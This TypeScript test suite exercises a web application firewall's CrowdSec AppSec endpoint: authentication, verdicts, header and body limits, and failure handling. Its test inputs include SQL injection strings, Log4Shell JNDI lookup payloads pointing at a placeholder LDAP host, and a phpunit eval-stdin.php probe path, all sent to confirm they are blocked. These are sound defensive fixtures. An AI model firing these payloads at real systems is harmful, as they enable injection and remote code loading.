import { Buffer } from 'node:buffer'
import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import http from 'node:http'
import type { Agent, OutgoingHttpHeaders } from 'node:http'
import net from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { EdgeConfig } from '@sevenfold/config'
import type { Inspector, Mode } from '@sevenfold/event'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { createNetworkSet } from '../src/address/client-address.ts'
import { JudgementDoors } from '../src/beside/judgement-doors.ts'
import { defaultHttpLimits } from '../src/http/limits.ts'
import { buildInspection } from '../src/inspection/build-inspection.ts'
import type { GatewayContext } from '../src/pipeline/gateway-context.ts'
import type { BlockRecord, RequestRecord } from '../src/pipeline/request-record.ts'
import type { SiteGuard } from '../src/pipeline/site-guard.ts'
import type { Site, SiteInspection, Step } from '../src/pipeline/site.ts'
import { LocalAnswer } from '../src/upstream/local-answer.ts'
import { waitFor } from './support/wait-for.ts'

const shared =
  process.env['SEVENFOLD_SHARED'] ?? fileURLToPath(new URL('../../../../shared', import.meta.url))
const hub = join(shared, 'hub')
const key = 'a-key-of-a-bouncer-0123456789'
const attackForm = "user=admin'%20OR%20'1'='1'--%20-&password=x"

function rulesOf(rules: readonly string[]): SiteInspection {
  const built = buildInspection({ rules, paranoia: 1, steps: 5_000_000, inspectedBodySizeBytes: 4096 })
  if (built === null) throw new Error('no rules')
  return built
}
const builtin = rulesOf(['builtin'])

interface Seen {
  readonly step: string
  readonly verdict: string
  readonly rule: string
  readonly client: string
  readonly beside: string
}

let folder = ''
let doors: JudgementDoors | undefined
let port = 0
let path = ''
let blocks: Seen[] = []
let accesses: RequestRecord[] = []
let agent: Agent
let banned = ''

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'sf-appsec-'))
  blocks = []
  accesses = []
  banned = ''
  agent = new http.Agent({ keepAlive: true, maxSockets: 1 })
})
afterEach(async () => {
  agent.destroy()
  await doors?.close(0, false)
  doors = undefined
  rmSync(folder, { recursive: true, force: true })
})

function contextOf(): GatewayContext {
  let next = 1
  const seenOf = (record: RequestRecord, { step, verdict, rule }: BlockRecord): Seen => {
    return { step, verdict, rule, client: record.clientAddress, beside: record.beside }
  }
  return {
    events: {
      access: (record) => void accesses.push(record),
      block: (record, block) => void blocks.push(seenOf(record, block)),
    },
    banVersion: () => 1,
    ban: (address) =>
      address === banned
        ? { kind: 'ban', decision: 7, scenario: 'test/ban', origin: 'sevenfold', until: 9e9 }
        : null,
    newId: () => `id-${next++}`,
    now: () => Date.now(),
    monotonicMs: () => performance.now(),
    bounds: { inspectionSteps: 5_000_000, inspectionSliceMs: 2 },
    inspectedBodySizeBytes: 4096,
    canaryKey: null,
    canarySeen: () => undefined,
  }
}

interface Start {
  readonly inspection?: SiteInspection | null
  readonly mode?: Mode
  readonly modes?: Partial<Record<Step, Mode>>
  readonly site?: Partial<Site>
  readonly door?: Partial<EdgeConfig['beside'][number]>
}

async function start({
  inspection = builtin,
  mode = 'enforce',
  modes = {},
  ...more
}: Start = {}): Promise<void> {
  const site: Site = {
    name: 'shop',
    listener: 1,
    hosts: ['*'],
    pool: new LocalAnswer(() => ({ status: 500, fields: '', body: '' })),
    retries: 0,
    answerFields: '',
    ownHandshake: false,
    beside: '',
    upstreamAuthority: 'app.test',
    proxies: createNetworkSet([]),
    inspection,
    onInspectionFailure: 'refuse',
    mode: (step) => modes[step] ?? mode,
    ...more.site,
  }
  const door = {
    kind: 'appsec',
    site: 'shop',
    listen: { host: '127.0.0.1', port: 0 },
    trusted: ['127.0.0.0/8'],
    onDeadEdge: 'refuse',
    keys: [{ sha256: createHash('sha256').update(key).digest('hex') }],
    bodySizeBytes: 8192,
    onLongBody: 'drop',
    bodyTimeoutMs: 150,
    ...more.door,
  } as const
  doors = new JudgementDoors({
    // What the doors read of it.
    config: { beside: [door], limits: defaultHttpLimits } as unknown as EdgeConfig,
    context: contextOf(),
    site: (name) => (name === 'shop' ? site : undefined),
    monotonicMs: () => performance.now(),
  })
  const [opened] = await doors.open()
  port = opened?.listening.port ?? 0
  path = opened?.listening.path ?? ''
}

const story = {
  'X-Crowdsec-Appsec-Ip': '192.0.2.7',
  'X-Crowdsec-Appsec-Uri': '/a?b=1',
  'X-Crowdsec-Appsec-Host': 'shop.test',
  'X-Crowdsec-Appsec-Verb': 'GET',
  'X-Crowdsec-Appsec-Api-Key': key,
  'X-Crowdsec-Appsec-User-Agent': 'Mozilla/5.0',
  'X-Crowdsec-Appsec-Http-Version': '11',
  'X-Crowdsec-Appsec-Transaction-Id': 'c0ffee',
  'User-Agent': 'Mozilla/5.0',
  Accept: '*/*',
}

interface Told {
  readonly status: number
  readonly body: unknown
}

/** Asks as a bouncer does: the question has the headers and the body of the original. */
function ask(headers: OutgoingHttpHeaders = {}, body: string | readonly string[] = ''): Promise<Told> {
  const whole = typeof body === 'string'
  return new Promise((resolve, reject) => {
    const question = http.request({
      ...(path === '' ? { host: '127.0.0.1', port } : { socketPath: path }),
      method: body === '' ? 'GET' : 'POST',
      path: '/',
      agent,
      headers: {
        ...story,
        ...(body === '' ? {} : { 'X-Crowdsec-Appsec-Verb': 'POST' }),
        ...(whole && body !== '' ? { 'Content-Length': Buffer.byteLength(body) } : {}),
        ...headers,
      },
    })
    question.on('error', reject)
    question.on('response', (response) => {
      let text = ''
      response.on('data', (piece) => (text += String(piece)))
      response.on('end', () =>
        resolve({ status: response.statusCode ?? 0, body: JSON.parse(text) as unknown }),
      )
    })
    if (whole) question.end(body)
    else {
      for (const piece of body) question.write(piece)
      question.end()
    }
  })
}

/** What is there of the story without one header. */
function without(name: keyof typeof story): OutgoingHttpHeaders {
  return { [name]: [] }
}

const pass: Told = { status: 200, body: { action: 'allow', http_status: 200 } }
const ban: Told = { status: 403, body: { action: 'ban', http_status: 403 } }
const form = { 'Content-Type': 'application/x-www-form-urlencoded' }

describe('the AppSec port', () => {
  it('lets an innocent request pass, and says what it saw', async () => {
    await start()
    expect(await ask()).toEqual(pass)
    const [record] = accesses
    expect([record?.clientAddress, record?.head?.target, record?.head?.host?.name, record?.beside]).toEqual([
      '192.0.2.7',
      '/a?b=1',
      'shop.test',
      'appsec',
    ])
    expect(record?.trace()).toContainEqual({
      step: 'waf',
      verdict: 'pass',
      detail: 'request with body, no response',
    })
  })

  const attacks: readonly (readonly [name: string, headers: OutgoingHttpHeaders, body: string])[] = [
    ['in the target', { 'X-Crowdsec-Appsec-Uri': "/?id=1'%20OR%20'1'='1" }, ''],
    ['in a header', { Referer: '${jndi:ldap://192.0.2.1/a}' }, ''],
    ['in the user agent that only the protocol tells', { 'User-Agent': [], 'X-Crowdsec-Appsec-User-Agent': '${jndi:ldap://192.0.2.1/a}' }, ''],
    ['in the user agent that only the request has', { 'User-Agent': '${jndi:ldap://192.0.2.1/a}' }, ''],
    ['in a form', form, attackForm],
    ['in JSON', { 'Content-Type': 'application/json' }, `{"user":"1' OR '1'='1' -- -"}`],
  ] // prettier-ignore
  for (const [name, headers, body] of attacks) {
    it(`stops an attack ${name}, and reports the client and the rule`, async () => {
      await start()
      expect(await ask(headers, body)).toEqual(ban)
      expect(blocks).toMatchObject([{ step: 'waf', verdict: 'block', client: '192.0.2.7', beside: 'appsec' }])
    })
  }

  it('takes an attack in the second chunk of a body without length for what it is', async () => {
    await start()
    expect(await ask(form, ['a=1&', attackForm])).toEqual(ban)
    expect(await ask(form, ['a=1&', 'b=2'])).toEqual(pass)
  })

  it('judges in the mode of the site', async () => {
    await start({ mode: 'monitor' })
    expect(await ask(form, attackForm)).toEqual(pass)
    expect(blocks).toMatchObject([{ step: 'waf', verdict: 'would-block' }])
  })

  it('asks without rules only whether the client is banned', async () => {
    banned = '192.0.2.7'
    await start({ inspection: null })
    expect(await ask()).toEqual(ban)
    expect(blocks).toMatchObject([{ step: 'ban', rule: 'test/ban' }])
    expect(await ask({ 'X-Crowdsec-Appsec-Ip': '::ffff:192.0.2.7' })).toEqual(ban)
    expect(await ask({ 'X-Crowdsec-Appsec-Ip': '2001:db8::1' }, attackForm)).toEqual(pass)
  })

  it('keeps a connection for many questions, with bodies and without', async () => {
    await start()
    for (let i = 0; i < 20; i += 1) {
      expect(await ask(i % 2 === 0 ? {} : form, i % 2 === 0 ? '' : 'a=1')).toEqual(pass)
      expect(await ask(form, attackForm)).toEqual(ban)
    }
    expect(Object.values(agent.freeSockets).flat()).toHaveLength(1)
  })

  it('is served on a Unix socket', async () => {
    await start({ door: { listen: { host: '', port: 0, path: join(folder, 'appsec.sock') } } })
    expect(await ask()).toEqual(pass)
    expect(await ask(form, attackForm)).toEqual(ban)
  })
})

describe('who asks', () => {
  for (const [name, headers] of [
    ['no key', without('X-Crowdsec-Appsec-Api-Key')],
    ['an empty key', { 'X-Crowdsec-Appsec-Api-Key': '' }],
    ['a wrong key', { 'X-Crowdsec-Appsec-Api-Key': `${key}0` }],
    [
      'the digest instead of the key',
      { 'X-Crowdsec-Appsec-Api-Key': createHash('sha256').update(key).digest('hex') },
    ],
  ] as const) {
    // prettier-ignore
    it(`gets 401 for ${name}, and nothing is judged`, async () => {
      await start()
      expect((await ask({ ...headers, 'X-Crowdsec-Appsec-Uri': "/?id=1'%20OR%20'1'='1" })).status).toBe(401)
      expect([blocks, accesses]).toEqual([[], []])
    })
  }

  it('gets 401 from an address that is not trusted', async () => {
    await start({ door: { trusted: ['198.51.100.0/24'] } })
    expect((await ask()).status).toBe(401)
  })

  for (const name of ['Ip', 'Uri', 'Verb'] as const) {
    it(`gets 500 without X-Crowdsec-Appsec-${name}`, async () => {
      await start()
      const told = await ask(without(`X-Crowdsec-Appsec-${name}`))
      expect(told.status).toBe(500)
      expect(JSON.stringify(told.body)).toContain(`x-crowdsec-appsec-${name.toLowerCase()}`)
    })
  }

  for (const name of ['User-Agent', 'Http-Version', 'Transaction-Id'] as const) {
    it(`may leave out X-Crowdsec-Appsec-${name}`, async () => {
      await start()
      expect(await ask(without(`X-Crowdsec-Appsec-${name}`))).toEqual(pass)
    })
  }

  it('may leave out the host of an HTTP/1.0 request', async () => {
    await start({ inspection: null })
    const old = { 'X-Crowdsec-Appsec-Http-Version': '10', 'X-Crowdsec-Appsec-Host': [] }
    expect(await ask(old)).toEqual(pass)
    expect(accesses[0]?.head?.protocol).toBe('1.0')
  })

  it('is judged without host where the bouncer tells no version, and does not fail open', async () => {
    await start()
    const bare = { 'X-Crowdsec-Appsec-Http-Version': [], 'X-Crowdsec-Appsec-Host': [] }
    expect(await ask(bare)).toEqual(pass)
    expect(await ask({ ...bare, 'X-Crowdsec-Appsec-Uri': "/?id=1'%20OR%20'1'='1" })).toEqual(ban)
    // HTTP/1.1 without host is malformed.
    expect(await ask(without('X-Crowdsec-Appsec-Host'))).toEqual(ban)
    expect(blocks.map(({ step, rule }) => (step === 'limits' ? rule : step))).toEqual(['waf', 'EDGE_HOST'])
  })

  it("is told of the client's user agent, and bots are known by that one", async () => {
    await start({ inspection: null })
    const bouncer = { 'User-Agent': 'a-bouncer/1.0' }
    await ask({ ...bouncer, 'X-Crowdsec-Appsec-User-Agent': 'GPTBot/1.2' })
    await ask({ ...bouncer, 'X-Crowdsec-Appsec-User-Agent': '' })
    await ask({ ...bouncer, 'X-Crowdsec-Appsec-User-Agent': [] })
    expect(accesses.map(({ head }) => head?.userAgent)).toEqual(['GPTBot/1.2', '', 'a-bouncer/1.0'])
  })

  it('judges headers of the client that only look like the protocol', async () => {
    await start()
    const hidden = '${jndi:ldap://192.0.2.1/a}'
    for (const name of ['Nothing', 'Http-Version', 'Transaction-Id']) {
      expect(await ask({ [`X-Crowdsec-Appsec-${name}`]: hidden }), name).toEqual(ban)
    }
  })

  it('gets 500 for an address that is none', async () => {
    await start()
    for (const address of ['localhost', '192.0.2.7, 10.0.0.1', 'fe80::1%eth0', '999.1.1.1']) {
      expect((await ask({ 'X-Crowdsec-Appsec-Ip': address })).status, address).toBe(500)
    }
  })
})

describe('hostile requests', () => {
  const heads: readonly (readonly [name: string, headers: OutgoingHttpHeaders, rule: string])[] = [
    ['a target with spaces', { 'X-Crowdsec-Appsec-Uri': '/a b HTTP/1.1' }, 'EDGE_REQUEST_LINE'],
    ['a target with a fragment', { 'X-Crowdsec-Appsec-Uri': '/a#b' }, 'EDGE_TARGET'],
    ['a target without path', { 'X-Crowdsec-Appsec-Uri': 'a' }, 'EDGE_TARGET'],
    ['a target that is too long', { 'X-Crowdsec-Appsec-Uri': `/${'a'.repeat(8192)}` }, 'EDGE_TARGET_TOO_LONG'],
    ['an absolute target of another host', { 'X-Crowdsec-Appsec-Uri': 'http://other.test/' }, 'EDGE_HOST_MISMATCH'],
    ['a malformed host', { 'X-Crowdsec-Appsec-Host': 'a/b' }, 'EDGE_HOST'],
    ['a method that nobody knows', { 'X-Crowdsec-Appsec-Verb': 'HACK' }, 'EDGE_METHOD'],
    ['an address of its own beside that of the bouncer', { 'X-Crowdsec-Appsec-Ip': ['203.0.113.1', '192.0.2.7'] }, 'EDGE_HEADER_REPEATED'],
    ['a key of its own beside that of the bouncer', { 'X-Crowdsec-Appsec-Api-Key': ['mine', key] }, 'EDGE_HEADER_REPEATED'],
    ['too many headers', Object.fromEntries(Array.from({ length: 120 }, (_, i) => [`X-${i}`, 'a'])), 'EDGE_TOO_MANY_HEADERS'],
  ] // prettier-ignore
  for (const [name, headers, rule] of heads) {
    it(`are refused and not left to the bouncer: ${name}`, async () => {
      await start()
      expect(await ask(headers)).toEqual(ban)
      expect(blocks).toMatchObject([{ step: 'limits', rule, beside: 'appsec' }])
    })
  }

  for (const [name, headers] of [
    ['an expectation', { Expect: 'the-unexpected' }],
    ['an upgrade', { Connection: 'Upgrade', Upgrade: 'websocket' }],
  ] as const) {
    it(`cannot make the question fail with ${name}`, async () => {
      await start()
      expect(await ask(headers)).toEqual(pass)
      expect(await ask({ Padding: 'a'.repeat(40_000) })).toEqual(ban)
    })
  }

  it('cannot make the question fail with more headers than it has room for', async () => {
    await start()
    expect(await ask({ Padding: 'a'.repeat(40_000) })).toEqual(ban)
    expect(blocks).toMatchObject([{ rule: 'EDGE_HEADERS_TOO_LARGE', beside: 'appsec' }])
  })

  it('that are no HTTP are refused', async () => {
    await start()
    const socket = net.connect(port, '127.0.0.1')
    socket.end('GET / HTTP/1.1\r\nHost: a\r\nbad header\x01: x\r\n\r\n')
    let text = ''
    socket.on('data', (piece) => (text += String(piece)))
    await once(socket, 'close')
    expect(text).toMatch(/^HTTP\/1\.1 403 [^]*"action":"ban"/)
  })
})

describe('bodies', () => {
  const bytes = (length: number): string => `a=${'b'.repeat(length - 2)}`

  it('of just the limit are taken, with and without length', async () => {
    await start()
    expect(await ask(form, bytes(8192))).toEqual(pass)
    expect(await ask(form, [bytes(4000), 'c'.repeat(4192)])).toEqual(pass)
    expect(blocks).toEqual([])
  })

  it('just above the limit are refused, with and without length', async () => {
    await start()
    expect(await ask(form, bytes(8193))).toEqual(ban)
    expect(await ask(form, [bytes(4000), 'c'.repeat(4193)])).toEqual(ban)
    expect(blocks).toMatchObject([{ rule: 'EDGE_BODY_TOO_LARGE' }, { rule: 'EDGE_BODY_TOO_LARGE' }])
    expect(await ask(form, bytes(100))).toEqual(pass)
  })

  it('above the limit are refused also where no rule reads them', async () => {
    await start({ inspection: null })
    expect(await ask(form, ['a'.repeat(8192), 'b'])).toEqual(ban)
    expect(await ask(form, ['a'.repeat(8191), 'b'])).toEqual(pass)
  })

  it('above the limit are judged by their first part with partial', async () => {
    await start({ door: { onLongBody: 'partial' } })
    expect(await ask(form, bytes(20_000))).toEqual(pass)
    expect(await ask(form, `${attackForm}&${bytes(20_000)}`)).toEqual(ban)
    expect(await ask(form, `${bytes(20_000)}&${attackForm}`)).toEqual(pass)
  })

  it('above the limit are judged by their head alone with allow', async () => {
    await start({ door: { onLongBody: 'allow' } })
    expect(await ask(form, `${attackForm}&${bytes(20_000)}`)).toEqual(pass)
    expect(await ask({ ...form, 'X-Crowdsec-Appsec-Uri': "/?id=1'%20OR%20'1'='1" }, bytes(20_000))).toEqual(
      ban,
    )
    expect(await ask(form, attackForm)).toEqual(ban)
  })

  it('that do not come in time are refused', async () => {
    await start()
    const question = http.request({
      host: '127.0.0.1',
      port,
      method: 'POST',
      agent,
      headers: { ...story, ...form, 'X-Crowdsec-Appsec-Verb': 'POST', 'Content-Length': 100 },
    })
    question.on('error', () => undefined) // ended below
    question.write('a=1')
    const [response] = (await once(question, 'response')) as [http.IncomingMessage]
    expect(response.statusCode).toBe(403)
    expect(blocks).toMatchObject([{ step: 'limits', rule: 'EDGE_BODY_TIMEOUT', client: '192.0.2.7' }])
    question.destroy()
  })

  it('that a bouncer breaks off end the judgement', async () => {
    await start()
    const socket = net.connect(port, '127.0.0.1')
    const lines = Object.entries({
      ...story,
      ...form,
      'X-Crowdsec-Appsec-Verb': 'POST',
      'Content-Length': 100,
    })
    const head = lines.map(([name, value]) => `${name}: ${value}\r\n`).join('')
    socket.write(`POST / HTTP/1.1\r\nHost: edge\r\n${head}\r\na=1`, () => socket.destroy())
    await waitFor(() => accesses.length === 1)
    expect([accesses[0]?.status, blocks]).toEqual([0, []])
    expect(await ask()).toEqual(pass)
  })
})

describe('a challenge', () => {
  const guardOf = (rule: string): SiteGuard => ({
    open: () => ({
      next: () => ({
        kind: 'answer',
        status: 403,
        fields: '',
        body: '<html>',
        report: { step: 'challenge', rule, message: '' },
      }),
      country: '',
      asn: 0,
      trace: () => [],
      answerFields: (_status, fields) => fields,
      rests: () => undefined,
      finished: () => undefined,
    }),
  })

  it('is a captcha for the bouncer', async () => {
    await start({ site: { guard: guardOf('challenge') } })
    expect(await ask()).toEqual({ status: 403, body: { action: 'captcha', http_status: 403 } })
  })

  it('is none where a program is refused by its name', async () => {
    await start({ site: { guard: guardOf('scanner-agent') } })
    expect(await ask()).toEqual(ban)
  })
})

describe('a judgement that fails', () => {
  const broken: Inspector = {
    open: () => {
      throw new Error('broken')
    },
  }
  const inspection = { inspector: broken, answers: false }

  it('is 500 where the site refuses', async () => {
    await start({ inspection })
    expect((await ask()).status).toBe(500)
  })

  it('lets the request pass where the site says so', async () => {
    await start({ inspection, site: { onInspectionFailure: 'pass' } })
    expect(await ask()).toEqual(pass)
  })

  it('is not feigned by a rule that answers 503', async () => {
    const pretending: Inspector = {
      open: () => ({
        requestHead: () => ({ kind: 'deny', status: 503 }),
        requestBody: () => ({ kind: 'more' }),
        requestEnd: () => ({ kind: 'pass' }),
        responseHead: () => ({ kind: 'more' }),
        responseBody: () => ({ kind: 'more' }),
        responseEnd: () => ({ kind: 'pass' }),
        resume: () => ({ kind: 'pass' }),
        report: () => ({ matches: [], score: 0, outboundScore: 0, steps: 0, interruption: null }),
        close: () => undefined,
      }),
    }
    await start({ inspection: { inspector: pretending, answers: false } })
    expect(await ask()).toEqual(ban)
  })
})

describe('rules of a CrowdSec hub', () => {
  it.skipIf(!existsSync(join(hub, 'appsec-rules')))(
    'stop what they patch, through the port (needs hub data)',
    async () => {
      await start({ inspection: rulesOf([`hub:${hub}#crowdsecurity/virtual-patching`]) })
      expect(await ask({ 'X-Crowdsec-Appsec-Uri': '/vendor/phpunit/src/Util/PHP/eval-stdin.php' })).toEqual(
        ban,
      )
      expect(blocks).toMatchObject([{ step: 'waf', rule: '1017542000' }])
      expect(await ask()).toEqual(pass)
      expect(await ask(form, 'a=1')).toEqual(pass)
    },
  )
})
